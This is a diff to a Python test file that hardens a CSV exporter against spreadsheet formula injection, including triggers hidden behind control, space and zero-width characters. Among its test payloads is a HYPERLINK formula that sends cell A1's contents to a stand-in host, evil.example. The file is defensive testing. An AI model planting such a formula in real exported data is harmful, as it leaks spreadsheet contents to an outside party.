@@ -25,6 +25,11 @@ from tui_analytics.export.csvfmt import (
 )
 
 TRIGGERS = "=+-@\t\r"
+# What comes before a trigger and is skipped by a spreadsheet: control characters (but tab and
+# CR, which are triggers themselves), spaces, zero-width and bidi formatting characters.
+LEAD = re.compile(
+    "^[\x00-\x08\x0a-\x0c\x0e-\x20\x7f-\x9f\u00a0\u1680\u2000-\u200f\u2028-\u202f\u205f-\u206f\u3000\ufeff]+"
+)
 # The documented "plain number" that stays unprefixed (README, csvfmt docstring).
 NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
 
@@ -36,7 +41,8 @@ def read(text: str) -> list[list[str]]:
 # -- the documented cell rules, written out independently of the implementation --
 
 def spec_text(value: str) -> str:
-    if value and value[0] in TRIGGERS and not NUMBER.fullmatch(value):
+    shown = LEAD.sub("", value, count=1)
+    if shown and shown[0] in TRIGGERS and not NUMBER.fullmatch(shown):
         return "'" + value
     return value
 
@@ -119,10 +125,12 @@ def test_no_cell_reads_back_as_a_formula_and_text_is_recoverable(values):
     text, _ = rows_to_csv([{f"c{i}": v for i, v in enumerate(values)}])
     cells = read(text)[1]
     for original, cell in zip(values, cells):
-        # safe: a spreadsheet never sees a cell starting with a trigger unless it is a plain number
-        assert not cell or cell[0] not in TRIGGERS or NUMBER.fullmatch(cell)
+        # safe: a spreadsheet never sees a cell starting with a trigger (after the control characters
+        # and spaces it skips) unless it is a plain number
+        shown = LEAD.sub("", cell, count=1)
+        assert not shown or shown[0] not in TRIGGERS or NUMBER.fullmatch(shown)
         # lossless: dropping the added quote gives the original text back
-        assert cell == original or (cell == "'" + original and original[0] in TRIGGERS)
+        assert cell == original or (cell == "'" + original and LEAD.sub("", original, count=1)[0] in TRIGGERS)
 
 
 FORMULA_PAYLOADS = [
@@ -150,9 +158,18 @@ FORMULA_PAYLOADS = [
     ("1e-3", "1e-3"),
     # not at the start: harmless
     ("a=1+1", "a=1+1"),
-    (" =1+1", " =1+1"),
     ("'=already quoted", "'=already quoted"),
     ("", ""),
+    # after what a spreadsheet skips: NUL, control characters, spaces (LibreOffice runs "\x00=1+1")
+    ("\x00=1+1", "'\x00=1+1"),
+    ('\x00=HYPERLINK("http://evil.example/?"&A1,"click")', '\'\x00=HYPERLINK("http://evil.example/?"&A1,"click")'),
+    (" =1+1", "' =1+1"),
+    ("\x00\x01\x1f @SUM(A1)", "'\x00\x01\x1f @SUM(A1)"),
+    ("\x7f\x85+A1", "'\x7f\x85+A1"),
+    ("\u00a0\u200b\ufeff=1", "'\u00a0\u200b\ufeff=1"),
+    ("\x00-5", "\x00-5"),
+    ("\x00", "\x00"),
+    ("  text", "  text"),
 ]
 
 
@@ -161,6 +178,12 @@ def test_formula_payloads_are_neutralised(payload, expected):
     assert neutralise(payload) == expected
     text, _ = rows_to_csv([{"value": payload}])
     assert read(text) == [["value"], [expected]]
+    # the streaming writer's fast paths (whole columns, single rows) too
+    stream = io.StringIO(newline="")
+    writer = CsvStreamWriter(stream)
+    writer.write_columns(["value", "n"], [["plain", payload], [1, 2]])
+    writer.write({"value": payload, "n": 3})
+    assert [row[0] for row in read(stream.getvalue())[1:]] == ["plain", expected, expected]
 
 
 @pytest.mark.parametrize(
